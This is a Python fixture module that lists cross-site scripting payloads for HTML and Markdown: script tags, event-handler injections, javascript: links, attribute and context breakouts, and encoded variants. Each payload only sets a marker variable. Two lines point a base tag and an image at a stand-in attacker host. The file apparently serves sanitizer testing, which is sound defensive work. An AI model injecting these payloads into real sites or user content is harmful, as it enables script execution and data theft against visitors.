"""Text that runs a script, or loads something, where a page takes it for HTML, a URL or Markdown.

Each would set ``window.attacked`` or open a dialog.
"""

from __future__ import annotations

RUN = "window.attacked=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    "<link rel=stylesheet href=data:text/css,body{display:none}>",
    "<style>body{display:none}</style>",
    "<base href=https://attacker.example/>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</pre></code><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.attacked=1&#62;",
    "\\u003cscript\\u003ewindow.attacked=1\\u003c/script\\u003e",
    "${window.attacked=1}{{window.attacked=1}}",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](vbscript:window.attacked)",
    f"![x](javascript:{RUN})",
    "![x](https://attacker.example/pixel.png)",
    f'[x](https://a.example"onmouseover="{RUN})',
    f"<javascript:{RUN}>",
    f"[x](https://a.example '\"><img src=x onerror={RUN}>')",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"`<img src=x onerror={RUN}>`",
    f"# <img src=x onerror={RUN}>",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | d |",
    f"- <svg onload={RUN}>\n- b",
    f"> <svg onload={RUN}>",
    f"**<img src=x onerror={RUN}>**",
]
PAYLOADS = [*HTML, *MARKDOWN]
